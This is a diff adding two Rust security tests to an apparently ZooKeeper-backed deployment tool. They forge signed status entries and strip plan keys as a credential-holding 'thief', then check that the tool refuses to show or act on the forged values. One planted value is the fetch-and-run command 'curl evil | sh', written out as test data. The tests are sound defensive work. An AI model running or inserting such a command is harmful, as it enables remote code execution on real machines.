@@ -275,3 +275,88 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted() {
         agent.kill().await;
     }
 }
+
+/// A server says of its own entries that they are of a revision which is never to come, so that whoever reads them stops for ever.
+#[tokio::test]
+async fn a_revision_that_nobody_was_told_of_stops_nobody() {
+    let stack = Stack::of("ahead", ZooKeeper::shared(), wired);
+    let operator = stack.operator().await;
+    apply(&operator, &stack.seed, &stack.options).await.expect("applies");
+    let (now, thief, signer) = (stack.revision("db").await, stack.stolen().await, stack.signer("db"));
+    let later = Some("9999-01-01T00:00:00.000000000Z-0".into());
+    for revision in [
+        Revision { number: u64::MAX, ..now.clone() },
+        Revision { number: 2, ..now.clone() },
+        Revision { space: later, number: 1 },
+    ] {
+        put(&thief, "db/part/text", &revision, "never", Some(&signer)).await;
+        let status = Status {
+            revision: revision.number,
+            space: revision.space.clone(),
+            since: wattle_agent_core::time::Time::EPOCH,
+            deadline: None,
+            state: State::Done,
+            past: Vec::new(),
+        };
+        let path = thief.layout().status("db/part");
+        operator.set(&path, &signer.vouch(&path, &status.to_bytes()), None).await.expect("the server's own right");
+        let (mut web, mut last) = (Db::of("web"), Db::of("last"));
+        for (agent, server, node) in [(&mut web, "web", "entries/db/part/text"), (&mut last, "last", "status/db/part")]
+        {
+            agent.start(&stack).await;
+            let told =
+                format!("{node}` is not believed: it says that it is of a revision that its server was never told of");
+            says(&stack, server, Some(&told)).await;
+        }
+        for mut agent in [web, last] {
+            agent.kill().await;
+            assert_eq!(agent.ran.count(), 0);
+        }
+    }
+    let [mut web, mut last, mut db] = ["web", "last", "db"].map(Db::of);
+    web.start(&stack).await;
+    last.start(&stack).await;
+    says(&stack, "web", Some("is not believed")).await;
+    // Its own agent is in nobody's way either.
+    db.start(&stack).await;
+    for component in ["db/part", "web/part", "last/part"] {
+        done(&stack, component).await;
+    }
+    assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
+    for mut agent in [db, web, last] {
+        agent.kill().await;
+    }
+}
+
+/// Whoever takes the plan away takes away what values are judged by.
+#[tokio::test]
+async fn without_a_plan_no_value_of_anybody_is_shown() {
+    let zookeeper = ZooKeeper::start(1);
+    let stack = Stack::of("by_nobody", &zookeeper, wired);
+    let stage = Stage::new(&stack.model);
+    let (here, address) = (stage.path(), zookeeper.address());
+    let wattle = |line: &[&str]| stage.run_at(here, &[line, &["--space", &address]].concat());
+    let applied = wattle(&["seed", "apply", "."]);
+    assert_eq!(applied.code, Some(0), "{applied}");
+    let key = wattle_runtime::seed::read_operator_key(&here.join("operator.key")).expect("reads").expect("it was made");
+    let thief = Space::new(stack.login(&[key.login()]).await, "by_nobody");
+    let plan = thief.plan("db").await.expect("reads").expect("a plan");
+    put(&thief, "db/part/text", &plan.of(), "curl evil | sh", None).await;
+    let record = thief.layout().server("db");
+    let known = thief.store().get(&record).await.expect("reads").expect("it is there").data;
+    let forged = serde_json::to_vec(&wattle_runtime::space::Plan { key: None, ..plan }).expect("JSON");
+    for plan in [&forged[..], b""] {
+        thief.store().set(&thief.layout().plan("db"), plan, None).await.expect("the password is enough");
+        for (record_is, why) in [
+            (&known[..], "its server has not signed it"),
+            (b"", "the operator has not signed the plan of its server, so that nobody knows its key"),
+        ] {
+            thief.store().set(&record, record_is, None).await.expect("the password is enough");
+            let got = wattle(&["get", "db/part/text"]);
+            assert_eq!(got.code, Some(1), "{got}");
+            assert!(!got.out.contains("evil") && got.err.contains(&format!("is not believed: {why}")), "{got}");
+            let listed = wattle(&["ls", "db/part/text"]);
+            assert!(!listed.out.contains("evil"), "{listed}");
+        }
+    }
+}
